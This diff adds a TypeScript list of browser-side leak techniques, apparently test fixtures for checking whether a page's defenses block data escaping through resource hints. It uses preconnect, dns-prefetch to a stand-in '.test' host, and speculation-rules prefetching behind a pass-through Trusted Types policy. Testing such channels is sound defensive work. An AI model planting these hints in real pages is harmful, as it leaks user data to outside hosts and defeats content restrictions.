@@ -1,0 +1,34 @@
+import type { Attack } from '../attack';
+
+/** Lists attacks that make the browser prepare for a page, so that a name or an address carries something away. */
+export const HINTS: readonly Attack[] = [
+  {
+    name: 'preconnect',
+    run: ({ connectOrigin }) =>
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'preconnect', href: connectOrigin }),
+      ),
+  },
+  {
+    name: 'dns-prefetch',
+    run: () =>
+      document.head.append(
+        Object.assign(document.createElement('link'), {
+          rel: 'dns-prefetch',
+          href: 'http://secret.dns-prefetch.test/',
+        }),
+      ),
+  },
+  {
+    name: 'speculation-rules',
+    run: ({ url }) => {
+      const script = document.createElement('script');
+      script.type = 'speculationrules';
+      const policy = window.trustedTypes?.createPolicy('narthex', { createScript: (text: string) => text });
+      const rules = { prefetch: [{ source: 'list', urls: [`${url}/a.html`], eagerness: 'immediate' }] };
+      const text = JSON.stringify(rules);
+      Reflect.set(script, 'text', policy?.createScript(text) ?? text);
+      document.head.append(script);
+    },
+  },
+];
